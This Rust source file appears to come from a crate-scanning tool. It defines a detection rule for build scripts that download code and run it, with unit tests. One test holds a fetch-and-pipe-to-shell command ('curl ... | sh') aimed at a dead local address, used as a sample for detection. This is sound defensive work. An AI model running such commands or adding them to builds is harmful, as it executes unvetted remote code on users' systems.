//! Fetch, write, run.

use cratekeeper_model::{RuleInput, Severity};

use crate::behaviour::with_behaviour;
use crate::correlation::{ChainKind, found};
use crate::rule::{Evaluation, Family, Rule};

pub(super) const RULE: Rule = Rule {
    id: "download-and-execute",
    family: Family::Correlation,
    title: "Code is downloaded and run",
    explanation: "\
**Looks at:** connections and programs that fetch on one side; programs, libraries and memory that are run and were not there before on the other; written in between or not. A shell command that does both counts alone. Data that is compared with a digest counts much less. What each tie is worth is in the table of [chains](#chains); from 4 points on there is a finding, 10 are an alert by themselves.

**Why:** what is run is in no package, and another thing tomorrow.

**Harmless when:** an installer does what it is for, on its user's wish; a build script fetches a tool of a fixed version and compares its digest.

**What to do:** do not build it before you know what is fetched, from whom, and that it is always the same.",
    severities: &[Severity::Low, Severity::Medium, Severity::High, Severity::Critical],
    techniques: &[12, 13, 15, 24, 42, 43, 45, 46, 47, 48, 49, 50, 51],
    evaluate,
};

fn evaluate(input: &RuleInput) -> Evaluation {
    with_behaviour(input, |behaviour| {
        let help = "do not build it before you know what is fetched, and from whom";
        found(&RULE, ChainKind::Execution.detect(behaviour), help)
    })
}

#[cfg(test)]
mod tests {
    use cratekeeper_model::Severity;
    use cratekeeper_model::facts::{FlowSource, OperationKind, Quality};

    use super::RULE;
    use crate::test_support::{BUILD, BUILD_INNER, Deeds, LIBRARY, findings, points, silent};

    fn downloading() -> (Deeds, u32, u32) {
        let mut deeds = Deeds::new();
        let fetch = deeds.act(BUILD, OperationKind::Connect, &["http://127.0.0.1:9/tool"]);
        let write = deeds.act(BUILD, OperationKind::WriteFile, &["{}/tool"]);
        (deeds, fetch, write)
    }

    #[test]
    fn what_is_downloaded_and_run_by_a_build_script_alerts() {
        let (mut deeds, fetch, write) = downloading();
        deeds.flow(FlowSource::Network, Some(fetch), write);
        deeds.act(BUILD, OperationKind::StartProcess, &["{}/tool"]);
        points(&RULE, &deeds, Severity::Critical, &[48]);
    }

    #[test]
    fn a_digest_takes_the_alert_away() {
        let (mut deeds, fetch, write) = downloading();
        deeds.flow(FlowSource::Network, Some(fetch), write).quality(write, Quality::Verified);
        deeds.act(BUILD, OperationKind::StartProcess, &["{}/tool"]);
        let finding = findings(&RULE, &deeds.input()).remove(0);
        assert!(
            finding.confidence < cratekeeper_model::Confidence::High && finding.severity <= Severity::High
        );
    }

    #[test]
    fn one_command_suffices() {
        let mut deeds = Deeds::new();
        deeds.act(BUILD, OperationKind::StartProcess, &["sh", "-c", "curl -s http://127.0.0.1:9/i | sh"]);
        points(&RULE, &deeds, Severity::Critical, &[48, 50]);
    }

    #[test]
    fn a_library_that_is_downloaded_and_linked_is_silent() {
        let (mut deeds, fetch, write) = downloading();
        deeds.flow(FlowSource::Network, Some(fetch), write);
        deeds.act(BUILD, OperationKind::CargoDirective, &["cargo:rustc-link-lib=static=tool"]);
        deeds.act(BUILD_INNER, OperationKind::StartProcess, &["tar", "xf", "{}"]);
        silent(&RULE, &deeds.input());
    }

    #[test]
    fn a_client_beside_a_launcher_is_silent() {
        let mut deeds = Deeds::new();
        deeds.act(LIBRARY, OperationKind::Connect, &["{}"]);
        deeds.act(crate::test_support::TEST, OperationKind::StartProcess, &["{}"]);
        silent(&RULE, &deeds.input());
    }
}
